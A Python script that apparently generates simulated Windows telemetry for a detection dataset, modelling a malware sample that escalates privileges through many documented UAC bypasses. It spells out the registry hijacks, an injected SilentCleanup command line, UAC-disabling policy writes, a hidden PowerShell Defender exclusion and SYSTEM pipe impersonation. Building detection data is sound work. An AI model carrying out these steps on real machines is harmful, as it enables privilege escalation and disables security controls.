"""A program without rights climbs by every ladder that goes up without a question: elevated COM, hijacked classes,
environment, a look-alike Windows folder; then it asks outright and turns the questions off. Resembles loaders with UACME's
methods built in."""
import contextlib

from scenery import Desktop

SETTING = {"start": "2020-11-04T16:05:33", "user": "DESKTOP-LK4\\priya", "home": "D:\\Users\\priya",
           "computer": "DESKTOP-LK4",
           "os_version": (10, 0, 18363)}
MICROSOFT = {"company": "Microsoft Corporation"}
SYSTEM32 = "C:\\Windows\\System32\\"
CLASSES = r"HKCU\Software\Classes"
POLICY = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System"
SID = "S-1-5-21-1004336348-1177238915-682003330-1001"
SECOND_STAGE = r"C:\Users\Public\Libraries\updhost.exe"


@contextlib.contextmanager
def told(c, sample, what, severity, techniques, about):
    """A behaviour of the sample; the processes that are added to the list it gives count as doers."""
    helpers = []
    with c.behaviour(what, severity, techniques, sample, about):
        yield helpers
    c.behaviours[-1].pids |= {one.pid for one in helpers}
    c.wait(4)


def elevated(c, parent, image, line):
    """A program of Windows with the user's full rights, whoever starts it; the second stage has no company."""
    company = {} if image == SECOND_STAGE else MICROSOFT
    child = c.spawn(parent, image, line, integrity="High", user=c.user, session=1, sid=SID, **company)
    c.load(child, SYSTEM32 + "kernel32.dll")
    return child


def climb(c, sample, program, line, payload):
    """An auto-elevated program of Windows starts what the user's registry says."""
    tool = elevated(c, sample, SYSTEM32 + program, line)
    c.load(tool, SYSTEM32 + "shell32.dll")
    child = elevated(c, tool, payload.split(" ")[0], payload)
    c.wait(1)
    c.exit(child)
    c.exit(tool)
    return [tool, child]


def hijack(c, sample, key, values):
    """A class of the user, which goes before the machine's."""
    c.key(sample, CLASSES + "\\" + key, new=True)
    for name, text in values:
        c.set_value(sample, CLASSES + "\\" + key + "\\" + name, "REG_SZ", text)


def by_com(c, sample, launcher):
    with told(c, sample, "has elevated COM (CMSTPLUA) start a program by dllhost", "high", "T1548.002",
              ("3E5FC7F9-9A51-4367-9063-A120244FBEC7", "updhost")) as helpers:
        c.load(sample, SYSTEM32 + "cmlua.dll")
        helpers.append(elevated(c, launcher, SYSTEM32 + "dllhost.exe",
                                SYSTEM32 + "DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}"))
        c.load(helpers[0], SYSTEM32 + "cmlua.dll")
        child = c.spawn(helpers[0], SECOND_STAGE, '"%s" /s 1' % SECOND_STAGE)
        helpers.append(child)
        c.exit(child)
        c.exit(helpers[0])
    with told(c, sample, "has cmstp run the commands of an INF that it wrote", "high", ("T1218.003", "T1548.002"),
              ("cmstp", "corpvpn.inf")) as helpers:
        inf = r"C:\Users\Public\Libraries\corpvpn.inf"
        c.drop(sample, inf, 640)
        helpers.append(c.spawn(sample, SYSTEM32 + "cmstp.exe", SYSTEM32 + "cmstp.exe /au " + inf, **MICROSOFT))
        c.read(helpers[0], inf, 640)
        c.exit(helpers[0])


def by_classes(c, sample):
    stage = SECOND_STAGE + " /s"
    with told(c, sample, "raises itself by fodhelper and a class that CurVer points to", "high", "T1548.002",
              ("fodhelper", "CurVer", "ms-settings")) as helpers:
        hijack(c, sample, r".thm\Shell\Open\command", [("(Default)", stage + " 2")])
        hijack(c, sample, r"ms-settings\CurVer", [("(Default)", ".thm")])
        helpers += climb(c, sample, "fodhelper.exe", '"C:\\Windows\\System32\\fodhelper.exe"', stage + " 2")
    with told(c, sample, "wipes the traces of the way up in the classes", "low", ("T1112", "T1070", "T1070.009"),
              ("CurVer", "ms-settings", ".thm")):
        c.delete_key(sample, CLASSES + r"\ms-settings\CurVer")
        c.delete_key(sample, CLASSES + r"\.thm\Shell\Open\command")
    with told(c, sample, "raises itself by computerdefaults and ms-settings", "high", "T1548.002",
              ("computerdefaults", "DelegateExecute", "ms-settings")) as helpers:
        hijack(c, sample, r"ms-settings\Shell\Open\command", [("(Default)", stage + " 3"), ("DelegateExecute", "")])
        helpers += climb(c, sample, "ComputerDefaults.exe", "ComputerDefaults.exe", stage + " 3")
    with told(c, sample, "raises itself by sdclt and the class of folders", "high", "T1548.002",
              ("sdclt", r"Folder\shell")) as helpers:
        hijack(c, sample, r"Folder\shell\open\command", [("(Default)", stage + " 4"), ("DelegateExecute", "")])
        helpers += climb(c, sample, "sdclt.exe", r"C:\Windows\system32\sdclt.exe", stage + " 4")
    with told(c, sample, "raises itself by sdclt and the App Path of control.exe", "high", "T1548.002",
              ("sdclt", "control.exe")) as helpers:
        key = r"HKCU\Software\Microsoft\Windows\CurrentVersion\App Paths\control.exe"
        c.key(sample, key, new=True)
        c.set_value(sample, key + r"\(Default)", "REG_SZ", SECOND_STAGE)
        helpers += climb(c, sample, "sdclt.exe", "sdclt.exe /kickoffelev", SECOND_STAGE)
    with told(c, sample, "raises itself by wsreset and the class of the store", "high", "T1548.002",
              ("WSReset", "AppX82a6gwre4fdg3bt635tn5ctqjf8msdd2")) as helpers:
        hijack(c, sample, r"AppX82a6gwre4fdg3bt635tn5ctqjf8msdd2\Shell\open\command",
               [("(Default)", stage + " 5"), ("DelegateExecute", "")])
        helpers += climb(c, sample, "WSReset.exe", '"C:\\Windows\\System32\\WSReset.exe"', stage + " 5")
    with told(c, sample, "raises itself by the event viewer and the class of console files", "high", "T1548.002",
              ("eventvwr", "mscfile")) as helpers:
        hijack(c, sample, r"mscfile\shell\open\command", [("(Default)", stage + " 6")])
        helpers += climb(c, sample, "eventvwr.exe", '"C:\\Windows\\System32\\eventvwr.exe"', stage + " 6")


def by_environment(c, sample, desktop):
    with told(c, sample, "has the task SilentCleanup run its program by a false windir", "high",
              ("T1548.002", "T1574.007", "T1574"),
              ("windir", "SilentCleanup")) as helpers:
        line = "cmd.exe /c start /min %s /s 7 & REM " % SECOND_STAGE
        c.set_value(sample, r"HKCU\Environment\windir", "REG_SZ", line)
        helpers.append(c.spawn(sample, SYSTEM32 + "schtasks.exe",
                               r"schtasks.exe /run /tn \Microsoft\Windows\DiskCleanup\SilentCleanup /I", **MICROSOFT))
        c.load(helpers[0], SYSTEM32 + "taskschd.dll")
        shell = c.spawn(desktop.scheduler, SYSTEM32 + "cmd.exe", line + r"\system32\cleanmgr.exe /autoclean /d C:",
                        user=c.user,
                        session=1, sid=sample.sid, integrity="High", **MICROSOFT)
        child = c.spawn(shell, SECOND_STAGE, SECOND_STAGE + "  /s 7")
        helpers += [shell, child]
        for process in (child, shell, helpers[0]):
            c.exit(process)
        c.delete_value(sample, r"HKCU\Environment\windir")
    with told(c, sample, "has the performance monitor loaded from a false SystemRoot", "high",
              ("T1548.002", "T1574.007", "T1574"),
              ("SystemRoot", "SYSTEMROOT", "perfmon")) as helpers:
        false_root = c.home + r"\AppData\Local\Temp\9A2C"
        c.folder(sample, false_root + r"\system32")
        c.drop(sample, false_root + r"\system32\mmc.exe", 212_000)
        c.set_value(sample, r"HKCU\Environment\SystemRoot", "REG_SZ", false_root)
        helpers.append(elevated(c, sample, SYSTEM32 + "perfmon.exe", r"C:\Windows\System32\perfmon.exe"))
        child = c.spawn(helpers[0], false_root + r"\system32\mmc.exe", '"%s\\system32\\mmc.exe" perfmon.msc' % false_root)
        helpers.append(child)
        c.exit(child)
        c.exit(helpers[0])
        c.delete_value(sample, r"HKCU\Environment\SystemRoot")
    mock = "C:\\Windows \\System32"
    with told(c, sample, "runs a copy of an auto-elevated program with its own library from a look-alike Windows folder",
              "high",
              ("T1548.002", "T1574.001", "T1036.005", "T1036"), ("C:\\Windows \\", "winsat.exe")) as helpers:
        c.folder(sample, "C:\\Windows ")
        c.folder(sample, mock)
        c.read(sample, SYSTEM32 + "winsat.exe", 340_000)
        c.drop(sample, mock + r"\winsat.exe", 340_000)
        c.drop(sample, mock + r"\version.dll", 96_000)
        helpers.append(elevated(c, sample, mock + r"\winsat.exe", '"%s\\winsat.exe" formal' % mock))
        c.load(helpers[0], mock + r"\version.dll")
        c.exit(helpers[0])


def outright(c, sample, desktop, path):
    """It asks for rights until the user says yes; what it then does as administrator."""
    informer = c.system(SYSTEM32 + "svchost.exe", SYSTEM32 + "svchost.exe -k netsvcs -p -s Appinfo", parent=desktop.services)
    with told(c, sample, "asks for elevation of itself again and again until it is granted", "low", ("T1548.002", "T1548"),
              ("runas", "consent", "invoice_view", "elevat")) as helpers:
        for answer in (0x4C7, 0x4C7, 0):
            consent = c.spawn(informer, SYSTEM32 + "consent.exe", "consent.exe %d 482 000001D6F4A3C2B0" % informer.pid,
                              session=1,
                              **MICROSOFT)
            c.wait(3)
            c.exit(consent, answer)
        raised = c.spawn(sample, path, '"%s" --again' % path, integrity="High")
        helpers.append(raised)
    c.exit(sample)
    with told(c, raised, "turns the questions of UAC off", "high", ("T1548.002", "T1112", "T1685"),
              ("ConsentPromptBehaviorAdmin", "EnableLUA", "PromptOnSecureDesktop")):
        c.open_key(raised, POLICY, access=0xF003F)
        for name in ("ConsentPromptBehaviorAdmin", "PromptOnSecureDesktop", "EnableLUA"):
            c.set_value(raised, POLICY + "\\" + name, "REG_DWORD", 0)
    with told(c, raised, "excludes a public folder from Defender's scans", "high", ("T1685", "T1564.012"),
              (r"Public\Libraries", "ExclusionPath", "Exclusions")) as helpers:
        shell = c.spawn(raised, SYSTEM32 + r"WindowsPowerShell\v1.0\powershell.exe",
                        r"powershell -w hidden -c Add-MpPreference -ExclusionPath C:\Users\Public\Libraries", **MICROSOFT)
        helpers += [shell, desktop.defender]
        c.load(shell, SYSTEM32 + "amsi.dll")
        c.set_value(desktop.defender, r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\Users\Public\Libraries",
                    "REG_DWORD", 0)
        c.exit(shell)
    service = r"HKLM\System\CurrentControlSet\Services\qkdwzt"
    with told(c, raised, "becomes SYSTEM by a service that writes to its pipe", "high",
              ("T1134.001", "T1134", "T1543.003", "T1569.002"),
              ("qkdwzt", "pipe")) as helpers:
        c.key(desktop.services, service, new=True)
        line = r"cmd.exe /c echo qkdwzt > \\.\pipe\qkdwzt"
        c.set_value(desktop.services, service + r"\Type", "REG_DWORD", 16)
        c.set_value(desktop.services, service + r"\Start", "REG_DWORD", 3)
        c.set_value(desktop.services, service + r"\ImagePath", "REG_EXPAND_SZ", line)
        shell = c.spawn(desktop.services, SYSTEM32 + "cmd.exe", line, **MICROSOFT)
        helpers.append(shell)
        c.open(shell, r"\\.\pipe\qkdwzt", 0x120116)
        c.exit(shell)
        c.delete_key(desktop.services, service)
    final = c.spawn(raised, SECOND_STAGE, SECOND_STAGE + " /final", user="NT AUTHORITY\\SYSTEM", sid="S-1-5-18",
                    integrity="System")
    c.exchange(final, ("198.51.100.190", 4443), 49955, [210], [1200])


def story(c):
    desktop = Desktop(c)
    launcher = c.system(SYSTEM32 + "svchost.exe", SYSTEM32 + "svchost.exe -k DcomLaunch -p", parent=desktop.services)
    desktop.murmur(8)
    path = c.home + r"\Downloads\invoice_view.exe"
    sample = c.spawn(desktop.explorer, path, directory=c.home + "\\Downloads\\")
    for name in ("kernel32", "ole32", "shell32"):
        c.load(sample, SYSTEM32 + name + ".dll")
    with told(c, sample, "writes a program into a public folder", "medium", ("T1105", "T1036", "T1036.005", "T1204.002"),
              "updhost.exe"):
        c.drop(sample, SECOND_STAGE, 268_000)
    by_com(c, sample, launcher)
    desktop.murmur(3)
    by_classes(c, sample)
    desktop.murmur(3)
    by_environment(c, sample, desktop)
    outright(c, sample, desktop, path)
    desktop.murmur(6)
